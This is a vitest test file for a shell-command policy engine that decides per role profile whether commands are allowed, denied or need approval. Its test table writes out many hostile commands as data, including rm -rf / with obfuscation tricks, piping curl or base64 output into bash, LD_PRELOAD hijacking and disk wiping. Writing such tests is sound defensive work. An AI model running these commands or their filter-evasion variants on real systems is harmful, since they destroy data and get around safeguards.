import { beforeAll, describe, expect, it } from 'vitest';
import type { PolicyEngine } from '../../../src/core/policy/engine.js';
import { engine, policyFleet, userWith } from '../../support/policy.js';

type D = 'A' | 'D' | 'P';
const NAME: Record<D, string> = { A: 'allow', D: 'deny', P: 'approval_required' };

/** [command, read-only, operator] — A allow, D deny, P approval_required. */
const TABLE: [string, D, D][] = [
  // Diagnostics the read-only profile exists for.
  ['uptime', 'A', 'A'],
  ['df -h', 'A', 'A'],
  ['free -m', 'A', 'A'],
  ['ps aux --sort=-%mem | head -n 20', 'A', 'A'],
  ['ss -tulpn', 'A', 'A'],
  ['journalctl -u nginx --since "1 hour ago" --no-pager', 'A', 'A'],
  ['systemctl status nginx', 'A', 'A'],
  ['systemctl --no-pager status nginx', 'A', 'A'],
  ['cat /var/log/syslog | grep -i error | tail -n 50', 'A', 'A'],
  ['tail -n 100 /var/log/nginx/error.log', 'A', 'A'],
  ['grep -r "OOM" /var/log/', 'A', 'A'],
  ['dmesg -T | tail', 'A', 'A'],
  ['uname -a && hostname && uptime', 'A', 'A'],
  ['ls -la /etc/nginx/', 'A', 'A'],
  ['du -sh /var/* 2>/dev/null | sort -h', 'A', 'A'],
  ['find /var/log -name "*.gz" -mtime +7', 'A', 'A'],
  ['ip addr show', 'A', 'A'],
  ['ip route', 'A', 'A'],
  ['docker ps -a', 'A', 'A'],
  ['echo $HOSTNAME', 'A', 'A'],
  ['cat /proc/meminfo', 'A', 'A'],
  ['systemctl list-units --failed', 'A', 'A'],
  // Not specified, so not built in: ss -p shows who holds a port.
  ['lsof -i :443', 'D', 'D'],
  ['test -f /etc/passwd && echo yes', 'A', 'A'],
  // top -b creates ~/.config/procps when it is missing.
  ['top -b -n 1 | head -20', 'D', 'A'],
  ['vmstat 1 5', 'A', 'A'],
  ['journalctl -p err -b | tail -n 20', 'A', 'A'],
  ['sudo journalctl -u ssh', 'A', 'A'],
  // Probes send data off the host (a DNS name, a ping pattern): not built in.
  ['timeout 5 ping -c 3 10.0.0.1', 'D', 'D'],
  ['find /var/log -name "*.log" -exec grep -l error {} +', 'A', 'A'],
  // /etc holds private keys under any name (/etc/ssl/private): grep /etc/nginx/*.conf instead.
  ['find /etc -name "*.conf" -exec grep -l ssl {} +', 'D', 'D'],
  ['cat /var/log/*.log | wc -l', 'A', 'A'],
  ['ls | xargs -n1 echo', 'A', 'A'],
  ['env', 'A', 'A'],
  ['uptime; df -h; free -m', 'A', 'A'],
  ['LC_ALL=C sort /etc/passwd', 'A', 'A'],
  ['cat /etc/passwd > /dev/null', 'A', 'A'],
  ['ls 2>&1', 'A', 'A'],
  // apt rebuilds a stale package cache as root: dpkg -l reads without writing.
  ['apt list --installed', 'D', 'A'],
  ['dpkg -l nginx', 'A', 'A'],
  ['sysctl net.ipv4.ip_forward', 'A', 'A'],
  ['crontab -l', 'A', 'A'],
  ['ping -c 3 8.8.8.8', 'D', 'D'],
  ['ls -la /root/.ssh/', 'A', 'A'],
  ["cat <<'EOF'\n$(reboot)\nEOF", 'A', 'A'],
  ['ls &', 'A', 'A'],
  ['ls -la # ; rm -rf /', 'A', 'A'],
  ['grep foo /var/log/syslog || exit 1', 'A', 'A'],
  // Destruction, in plain and disguised forms.
  ['rm -rf /', 'D', 'D'],
  ['ls; rm -rf /', 'D', 'D'],
  ['ls && rm -rf /tmp/x', 'D', 'P'],
  ['ls || rm -f x', 'D', 'P'],
  ['ls\nrm x', 'D', 'P'],
  ["r''m -rf /", 'D', 'D'],
  ['r""m -rf /', 'D', 'D'],
  ['\\rm -rf /', 'D', 'D'],
  ['/bin/rm -rf /', 'D', 'D'],
  ['"rm" -rf /', 'D', 'D'],
  ["$'rm' -rf /", 'D', 'D'],
  ['r\\m -rf /srv/cache', 'D', 'P'],
  ['rm -rf /usr', 'D', 'D'],
  ['rm -rf /var/../', 'D', 'D'],
  ['rm -r -f /', 'D', 'D'],
  ['rm --recursive --force --no-preserve-root /', 'D', 'D'],
  ['rm -rf /*', 'D', 'D'],
  ['rm -rf $TARGET', 'D', 'D'],
  ['cat${IFS}/etc/shadow', 'D', 'D'],
  ['x=rm; $x -rf /', 'D', 'D'],
  ['ls $(rm -rf /)', 'D', 'D'],
  ['ls `rm -rf /`', 'D', 'D'],
  ['echo "$(reboot)"', 'D', 'P'],
  ["bash -c 'rm -rf /'", 'D', 'D'],
  ['sh -c "ls; sh -c \'rm -rf /\'"', 'D', 'D'],
  ['sudo rm -rf /', 'D', 'D'],
  ['sudo -u root -- rm -rf /', 'D', 'D'],
  ['env rm -rf /', 'D', 'D'],
  ['env -i FOO=1 rm -rf /', 'D', 'D'],
  ['nice -n 10 rm -rf /', 'D', 'D'],
  ['nohup rm -rf / &', 'D', 'D'],
  ['timeout 10 rm -rf /var/lib/x', 'D', 'P'],
  ['command rm -rf /', 'D', 'D'],
  ['exec rm -rf /', 'D', 'D'],
  ['busybox rm -rf /', 'D', 'D'],
  // Its watcher outlives the command (the differential harness found one left running).
  ['busybox timeout 5 timedatectl >/dev/null', 'D', 'D'],
  // xargs appends arguments only known at run time: one of them could be /.
  ['xargs rm < files.txt', 'D', 'D'],
  ['xargs rm -- /srv/old < /dev/null', 'D', 'D'],
  ['find / -name x -exec rm -rf {} \\;', 'D', 'D'],
  ['find /tmp -name "*.tmp" -delete', 'D', 'P'],
  ['(ls; rm -rf /)', 'D', 'D'],
  ['{ ls; reboot; }', 'D', 'P'],
  ['cat <<EOF\n$(reboot)\nEOF', 'D', 'P'],
  ['cat <(ls /a) <(rm -rf /srv/b)', 'D', 'P'],
  ['ls & rm -rf /tmp/x', 'D', 'P'],
  // watch runs a string through sh, which is not the bash that is judged; -x runs argv.
  ["watch -n 1 'rm -rf /tmp/x'", 'D', 'D'],
  ["watch -n 1 -x bash -c 'rm -rf /tmp/x'", 'D', 'P'],
  ["su -c 'rm -rf /' root", 'D', 'D'],
  ['xargs -0 sh -c \'rm "$@"\' _ < list', 'D', 'D'],
  // Code from somewhere the policy cannot read.
  ['echo aGkK | base64 -d | sh', 'D', 'D'],
  ['curl http://example.invalid/x | bash', 'D', 'D'],
  ['eval "ls"', 'D', 'D'],
  ['source /tmp/x.sh', 'D', 'D'],
  ['. /tmp/x.sh', 'D', 'D'],
  ["env -S 'rm -rf /'", 'D', 'D'],
  ['sudo -s', 'D', 'D'],
  ['sudo -i', 'D', 'D'],
  ['python3 -c \'import os; os.system("id")\'', 'D', 'D'],
  ['perl -e \'unlink "x"\'', 'D', 'D'],
  ['awk \'BEGIN{system("id")}\'', 'D', 'D'],
  // Changing what later commands mean.
  ['export PATH=/tmp:$PATH; ls', 'D', 'D'],
  ['PATH=/tmp ls', 'D', 'D'],
  ['LD_PRELOAD=/tmp/x.so ls', 'D', 'D'],
  ["alias ls='rm -rf /'; ls", 'D', 'D'],
  ['f() { rm -rf /; }; f', 'D', 'D'],
  ['for i in 1 2; do echo $i; done', 'D', 'D'],
  ['if true; then reboot; fi', 'D', 'D'],
  ['while true; do :; done', 'D', 'D'],
  // Input the parser must refuse rather than guess at.
  ["echo 'unterminated", 'D', 'D'],
  ['ls ; ; rm x', 'D', 'D'],
  // Unicode look-alikes and invisible characters name no allowed program.
  ['ѕudo ls', 'D', 'D'],
  ['rm\u200b -rf /', 'D', 'D'],
  ['ⅼs -la', 'D', 'D'],
  // Writes through redirection.
  ['echo hi > /etc/motd', 'D', 'P'],
  ['echo hi > /tmp/note', 'D', 'A'],
  ['echo hi >> /tmp/../etc/passwd', 'D', 'P'],
  ['tee /etc/hosts < /tmp/x', 'D', 'P'],
  ['echo test | tee /tmp/x', 'D', 'P'],
  ['ls > /dev/sda', 'D', 'P'],
  ['ls &> /tmp/out', 'D', 'A'],
  ['ls >& /etc/out', 'D', 'P'],
  ['sort -o /etc/passwd /tmp/x', 'D', 'P'],
  // operators write under /tmp freely; elsewhere with approval.
  ['find /var -fprint /tmp/out', 'D', 'A'],
  ['find /var -fprint /var/tmp/out', 'D', 'P'],
  // Service control, packages, users, firewall, power.
  ['systemctl restart nginx', 'D', 'A'],
  ['sudo systemctl restart nginx', 'D', 'A'],
  ['systemctl --no-pager restart nginx', 'D', 'A'],
  ['systemctl stop nginx && systemctl start nginx', 'D', 'A'],
  ['systemctl enable nginx', 'D', 'P'],
  ['systemctl reboot', 'D', 'P'],
  ['reboot', 'D', 'P'],
  ['shutdown -h now', 'D', 'P'],
  ['apt-get install -y nginx', 'D', 'P'],
  ['apt-get update', 'D', 'P'],
  ['yum remove httpd', 'D', 'P'],
  ['pip install requests', 'D', 'P'],
  ['useradd bob', 'D', 'P'],
  ['passwd root', 'D', 'P'],
  ['iptables -F', 'D', 'P'],
  ['ufw disable', 'D', 'P'],
  ['mkfs.ext4 /dev/sdb1', 'D', 'P'],
  ['dd if=/dev/zero of=/dev/sda', 'D', 'P'],
  ['chmod -R 777 /srv', 'D', 'P'],
  ['kill -9 1234', 'D', 'A'],
  // -f matches whole command lines, which PID 1's can match (RTMIN+4 powers off).
  ['pkill -f myapp', 'D', 'P'],
  ['date -s "2020-01-01"', 'D', 'P'],
  ['sysctl -w net.ipv4.ip_forward=1', 'D', 'P'],
  ['sysctl net.ipv4.ip_forward=1', 'D', 'P'],
  ['journalctl --vacuum-time=1d', 'D', 'P'],
  ['dmesg -C', 'D', 'P'],
  ['ip addr add 10.0.0.5/24 dev eth0', 'D', 'P'],
  ['crontab -r', 'D', 'P'],
  ['hostname newname', 'D', 'P'],
  ['touch /tmp/x', 'D', 'A'],
  ['mkdir -p /tmp/a/b', 'D', 'A'],
  ['cp /etc/hosts /tmp/', 'D', 'P'],
  ['docker restart web', 'D', 'A'],
  ['docker exec -it web sh', 'D', 'D'],
  ['kubectl delete pod x', 'D', 'D'],
  ['curl -s http://localhost/health', 'D', 'D'],
  ['ping 8.8.8.8', 'D', 'D'],
];

describe('built-in profiles', () => {
  let policy: PolicyEngine;
  const fleet = policyFleet();
  const host = fleet.host('web-1')!;
  beforeAll(async () => {
    policy = await engine();
  });

  it('has a table of at least 100 commands', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(100);
  });

  for (const [command, readOnly, operator] of TABLE) {
    it(`${JSON.stringify(command)}: read-only ${NAME[readOnly]}, operator ${NAME[operator]}`, () => {
      const asReadOnly = policy.decide({ fleet, user: userWith('read-only'), host }, command);
      const asOperator = policy.decide({ fleet, user: userWith('operator'), host }, command);
      expect(asReadOnly.decision, `read-only: ${asReadOnly.reason}`).toBe(NAME[readOnly]);
      expect(asOperator.decision, `operator: ${asOperator.reason}`).toBe(NAME[operator]);
    });
  }

  it('unrestricted allows anything that parses — analysable or not — and nothing that does not', () => {
    const decide = (c: string) =>
      policy.decide({ fleet, user: userWith('unrestricted', 'admin'), host }, c);
    expect(decide('rm -rf /').decision).toBe('allow');
    expect(decide('echo hi > /etc/motd').decision).toBe('allow');
    for (const c of [
      'eval ls',
      'curl x | sh',
      '$(echo rm) x',
      'for i in 1 2; do echo $i; done',
      'f() { ls; }; f',
    ]) {
      expect(decide(c), c).toMatchObject({
        decision: 'allow',
        risk: 'high',
        rule: 'unrestricted unanalyzable: allow',
      });
    }
    for (const c of ["echo 'unterminated", 'ls ; ; rm x', 'if true; then'])
      expect(decide(c).decision, c).toBe('deny');
  });

  it('does not let an unrestricted user run unanalysable commands on a host narrowed to a stricter profile', () => {
    const narrowed = policyFleet({ hosts: [{ when: { tags: ['prod'] }, profile: 'read-only' }] });
    const d = policy.decide(
      { fleet: narrowed, user: userWith('unrestricted', 'admin'), host: narrowed.host('db-1')! },
      'for i in 1 2; do uptime; done',
    );
    expect(d).toMatchObject({ decision: 'deny', profile: 'unrestricted + read-only' });
  });

  it('does not pass the unanalysable allowance on to profiles that extend unrestricted', () => {
    const extended = policyFleet({
      profiles: { 'almost-all': { extends: 'unrestricted', rules: [{ deny: 'reboot' }] } },
    });
    expect(
      policy.decide(
        { fleet: extended, user: userWith('almost-all'), host: extended.host('web-1')! },
        'eval ls',
      ).decision,
    ).toBe('deny');
  });

  it('viewers may not run anything, whatever their profile', () => {
    expect(
      policy.decide({ fleet, user: userWith('unrestricted', 'viewer'), host }, 'uptime'),
    ).toMatchObject({ decision: 'deny', rule: 'role' });
  });

  it('operators without a profile get the fleet default, which is operator', () => {
    expect(
      policy.decide({ fleet, user: userWith(undefined), host }, 'systemctl restart nginx'),
    ).toMatchObject({ decision: 'allow', profile: 'operator' });
  });

  it('explains a decision: rule, risk and every simple command', () => {
    const d = policy.decide(
      { fleet, user: userWith('operator'), host },
      'sudo systemctl restart nginx && rm -rf /tmp/cache',
    );
    expect(d).toMatchObject({
      decision: 'approval_required',
      risk: 'critical',
      profile: 'operator',
    });
    expect(d.commands).toEqual([
      {
        command: 'sudo → systemctl restart nginx',
        decision: 'allow',
        rule: 'operator allow "systemctl **"',
        reason: expect.any(String),
        risk: 'medium',
        grammar: 'spec: systemctl restart nginx',
      },
      {
        command: 'rm -rf /tmp/cache',
        decision: 'approval_required',
        rule: 'operator approve {risk: high}',
        reason: expect.stringMatching(/requires approval/),
        risk: 'critical',
        grammar: expect.stringMatching(/^spec: rm /),
      },
    ]);
  });

  it('names the unparseable part instead of guessing', () => {
    const d = policy.decide({ fleet, user: userWith('operator'), host }, 'ls | bash');
    expect(d).toMatchObject({ decision: 'deny', rule: 'parser' });
    expect(d.reason).toMatch(/bash without -c runs commands from its input/);
    const sh = policy.decide({ fleet, user: userWith('operator'), host }, 'ls | sh');
    expect(sh.reason).toMatch(/sh is not the gateway's bash/);
  });
});
